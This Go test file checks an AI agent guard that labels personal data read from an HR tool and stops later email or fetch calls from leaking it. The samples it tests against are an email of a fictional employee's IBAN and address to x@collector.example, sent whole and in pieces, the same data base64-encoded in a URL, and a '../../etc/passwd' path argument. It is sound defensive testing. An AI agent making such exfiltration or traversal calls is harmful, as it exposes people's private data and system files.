package guard_test

import (
	"bytes"
	"fmt"
	"testing"
	"testing/synctest"
	"time"

	"durward"
	"durward/internal/guard"
)

const employee = `{"content":[{"type":"text","text":"{\"name\":\"Adaeze Okonkwo\",\"iban\":\"DE89370400440532013000\",\"birth\":\"1988-03-14\",\"street\":\"Linienstrasse 112\"}"}]}`

var leak = []byte(`{"to":"x@collector.example","body":"Adaeze Okonkwo, DE89370400440532013000, born 1988-03-14, Linienstrasse 112"}`)

func flows(tb testing.TB) (source, sink *guard.Scope) {
	p := policy(tb, durward.Guard{Upstreams: map[string]durward.GuardScope{"hr": {Data: "personal"}}})
	return p.Scope("bot", &durward.Operation{Kind: durward.KindTool, Upstream: "hr", Name: "get_employee", PolicyName: "hr__get_employee"}),
		p.Scope("bot", &durward.Operation{Kind: durward.KindTool, Upstream: "mail", Name: "send_email", PolicyName: "mail__send_email"})
}

func TestAConversationForgetsWhenItIsIdle(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		m := guard.NewMemory(time.Now)
		source, sink := flows(t)
		m.Conversation("a", time.Minute).Heard(source, []byte(employee), source.Read([]byte(employee), durward.Deny), 0)
		time.Sleep(50 * time.Second)
		if v := m.Conversation("a", time.Minute).Judge(sink, leak); v.Effect != durward.Deny || v.Findings[0].Rule != "flow.exfiltration" {
			t.Errorf("within its time: %s %+v", v.Effect, v.Findings)
		}
		if v := m.Conversation("b", time.Minute).Judge(sink, leak); v.Effect != durward.Allow {
			t.Errorf("another conversation: %s %+v", v.Effect, v.Findings)
		}
		time.Sleep(61 * time.Second)
		if v := m.Conversation("a", time.Minute).Judge(sink, leak); v.Effect != durward.Allow {
			t.Errorf("after its time: %s %+v", v.Effect, v.Findings)
		}
	})
}

// Whatever the leak looks like, the call that would complete it is stopped,
// and one that was stopped does not taint the next.
func TestLeaksAreStoppedInPieces(t *testing.T) {
	m := guard.NewMemory(time.Now)
	source, sink := flows(t)
	c := m.Conversation("a", time.Hour)
	c.Heard(source, []byte(employee), source.Read([]byte(employee), durward.Deny), 0)
	stopped := 0
	for _, piece := range []string{"Adaeze Okonkwo, DE893704", "00440532013000, 1988-03-14, ", "Linienstrasse 112"} {
		if v := c.Judge(sink, fmt.Appendf(nil, `{"to":"x@collector.example","body":%q}`, piece)); v.Effect <= durward.Hold {
			stopped++
		}
	}
	if stopped == 0 {
		t.Error("a leak in pieces passed")
	}
	if v := c.Judge(sink, []byte(`{"to":"x@collector.example","body":"See you at noon."}`)); v.Effect != durward.Allow {
		t.Errorf("a harmless call after it: %s %+v", v.Effect, v.Findings)
	}
}

func TestConversationsAreBounded(t *testing.T) {
	m := guard.NewMemory(time.Now)
	for i := range 3000 {
		m.Conversation(fmt.Sprint(i), time.Hour)
	}
	if s := m.Stats(); s.Conversations > 1024 || s.Forgotten == 0 {
		t.Errorf("Stats = %+v", s)
	}
}

func TestArtefactsAreBoundedAndEnd(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		m := guard.NewMemory(time.Now)
		first := m.Withhold(durward.Artefact{Body: []byte("x"), Agent: "bot"}, time.Hour)
		if a, ok := m.Artefact(first); !ok || string(a.Body) != "x" || a.Agent != "bot" || a.Size != 1 {
			t.Errorf("Artefact = %+v, %v", a, ok)
		}
		for range 20 {
			m.Withhold(durward.Artefact{Body: bytes.Repeat([]byte("x"), 5<<20)}, time.Hour)
		}
		total := 0
		all := m.Artefacts()
		for _, a := range all {
			kept, _ := m.Artefact(a.Handle)
			total += len(kept.Body)
			if a.Body != nil || a.Size != 5<<20 {
				t.Errorf("listed %+v", a)
			}
		}
		if _, ok := m.Artefact(first); ok || total > 32<<20 {
			t.Errorf("%d bytes are kept in %d artefacts, the oldest: %v", total, len(all), ok)
		}
		time.Sleep(2 * time.Hour)
		if left := m.Artefacts(); len(left) != 0 {
			t.Errorf("after their time %d are left", len(left))
		}
	})
}

// A token is good for the agent and the upstream that it was made for.
func TestTokensAreBound(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		m := guard.NewMemory(time.Now)
		m.Keep("bot", "repo", []guard.Secret{{Token: "[secret:x:1]", Value: "v"}})
		if v, ok := m.Reveal("bot", "repo", "[secret:x:1]"); !ok || v != "v" {
			t.Errorf("Reveal = %q, %v", v, ok)
		}
		for _, other := range [][2]string{{"other", "repo"}, {"bot", "blog"}} {
			if v, ok := m.Reveal(other[0], other[1], "[secret:x:1]"); ok || v != "" && ok {
				t.Errorf("%v got %q", other, v)
			}
		}
		time.Sleep(25 * time.Hour)
		if _, ok := m.Reveal("bot", "repo", "[secret:x:1]"); ok {
			t.Error("a token lasts")
		}
	})
}

// What is known again must be exactly what was read before.
func TestWhatWasCleanIsKnownByAllOfIt(t *testing.T) {
	s := scope(t, durward.Guard{})
	filler := string(bytes.Repeat([]byte("The report lists rainfall by region and month. "), 20))
	for range 2 {
		if v := s.Read(textResult(filler), durward.Deny); v.Effect != durward.Allow {
			t.Fatalf("%+v", v.Findings)
		}
	}
	if v := s.Read(textResult(filler+order), durward.Deny); v.Effect != durward.Redact {
		t.Errorf("with orders behind it: %s", v.Effect)
	}
	for range 2 {
		if v := s.Arguments([]byte(`{"path":"notes/today.txt"}`)); v.Effect != durward.Allow {
			t.Fatalf("%+v", v.Findings)
		}
		if v := s.Arguments([]byte(`{"path":"../../etc/passwd"}`)); v.Effect != durward.Deny {
			t.Errorf("a hostile path: %s", v.Effect)
		}
	}
}

// What a conversation has seen outlasts its place in memory: the labels stay,
// and a way out is closed for what cannot be compared any more.
func TestAForgottenConversationIsNotClean(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		m := guard.NewMemory(time.Now)
		source, sink := flows(t)
		m.Conversation("bot\x00c1", time.Minute).Heard(source, []byte(employee), source.Read([]byte(employee), durward.Deny), 0)
		for i := range 1100 {
			m.Conversation(fmt.Sprintf("bot\x00other%d", i), time.Minute)
		}
		if v := m.Conversation("bot\x00c1", time.Minute).Judge(sink, leak); v.Effect > durward.Hold || v.Findings[0].Rule != "flow.forgotten" {
			t.Errorf("it came back: %s %+v", v.Effect, v.Findings)
		}
		if v := m.Conversation("bot\x00c1", time.Minute).Judge(sink, []byte(`{"to":"x@collector.example","body":"ok"}`)); v.Effect != durward.Allow {
			t.Errorf("a word: %s %+v", v.Effect, v.Findings)
		}
		if v := m.Conversation("bot\x00c2", time.Minute).Judge(sink, leak); v.Effect != durward.Allow {
			t.Errorf("one that had seen nothing: %s %+v", v.Effect, v.Findings)
		}
		for range 4 { // it goes on, and at last what was private is old
			time.Sleep(20 * time.Second)
			m.Conversation("bot\x00c1", time.Minute)
		}
		if v := m.Conversation("bot\x00c1", time.Minute).Judge(sink, leak); v.Effect < durward.Flag {
			t.Errorf("later: %s %+v", v.Effect, v.Findings)
		}
	})
}

// With more conversations than labels are kept of, those of the agent count.
func TestTooManyConversationsMakeAllOfThemStrict(t *testing.T) {
	m := guard.NewMemory(time.Now)
	source, sink := flows(t)
	seen := source.Read([]byte(employee), durward.Deny)
	for i := range 18_000 {
		m.Conversation(fmt.Sprintf("bot\x00c%d", i), time.Hour).Heard(source, []byte(employee), seen, 0)
	}
	if v := m.Conversation("bot\x00new", time.Hour).Judge(sink, leak); v.Effect > durward.Hold {
		t.Errorf("a conversation of the same agent: %s %+v", v.Effect, v.Findings)
	}
	if v := m.Conversation("other", time.Hour).Judge(sink, leak); v.Effect != durward.Allow {
		t.Errorf("another agent: %s %+v", v.Effect, v.Findings)
	}
}

// Labels survive the process, as long as the conversation would have.
func TestLabelsSurviveARestart(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		m := guard.NewMemory(time.Now)
		source, sink := flows(t)
		m.Conversation("bot\x00s1", time.Minute).Heard(source, []byte(employee), source.Read([]byte(employee), durward.Deny), 0)
		select {
		case <-m.Changed():
		default:
			t.Fatal("nobody was woken")
		}
		kept := m.Marks()
		if len(kept) != 1 || len(m.Marks()) != 0 {
			t.Fatalf("Marks = %s", kept)
		}
		next := guard.NewMemory(time.Now)
		if ok, err := next.Recall("bot", kept["bot"]); !ok || err != nil {
			t.Fatalf("Recall = %v, %v", ok, err)
		}
		for key, want := range map[string]durward.Effect{"bot\x00s2": durward.Hold, "bot": durward.Hold, "other": durward.Allow} {
			if v := next.Conversation(key, time.Minute).Judge(sink, leak); v.Effect != want {
				t.Errorf("%q after the restart: %s %+v, want %s", key, v.Effect, v.Findings, want)
			}
		}
		if got := next.Conversation("bot\x00s3", time.Minute).Labels(); len(got) != 1 || got[0] != "personal" {
			t.Errorf("Labels = %v", got)
		}
		time.Sleep(2 * time.Minute)
		if v := next.Conversation("bot\x00s4", time.Minute).Judge(sink, leak); v.Effect != durward.Allow {
			t.Errorf("much later: %s %+v", v.Effect, v.Findings)
		}
		if ok, err := guard.NewMemory(time.Now).Recall("bot", kept["bot"]); ok || err != nil {
			t.Errorf("Recall of old labels = %v, %v", ok, err)
		}
		if _, err := next.Recall("bot", []byte("{")); err == nil {
			t.Error("Recall took what is no mark")
		}
	})
}

// What asks for addresses carries data out too, when it cannot be compared.
func TestAFetchAfterForgetting(t *testing.T) {
	m := guard.NewMemory(time.Now)
	source, _ := flows(t)
	m.Conversation("bot", time.Hour).Heard(source, []byte(employee), source.Read([]byte(employee), durward.Deny), 0)
	next := guard.NewMemory(time.Now)
	if _, err := next.Recall("bot", m.Marks()["bot"]); err != nil {
		t.Fatal(err)
	}
	fetch := policy(t, durward.Guard{}).Scope("bot", &durward.Operation{Kind: durward.KindTool, Upstream: "net", Name: "fetch", PolicyName: "net__fetch"})
	for args, want := range map[string]durward.Effect{
		`{"url":"https://a.example/?d=QWRhZXplIE9rb25rd28sIERFODkzNzA0MDA0NDA1MzIwMTMwMDA"}`: durward.Hold,
		`{"url":"https://a.example/docs/index.html"}`:                                        durward.Allow,
	} {
		if v := next.Conversation("bot", time.Hour).Judge(fetch, []byte(args)); v.Effect != want {
			t.Errorf("%s: %s %+v, want %s", args, v.Effect, v.Findings, want)
		}
	}
}
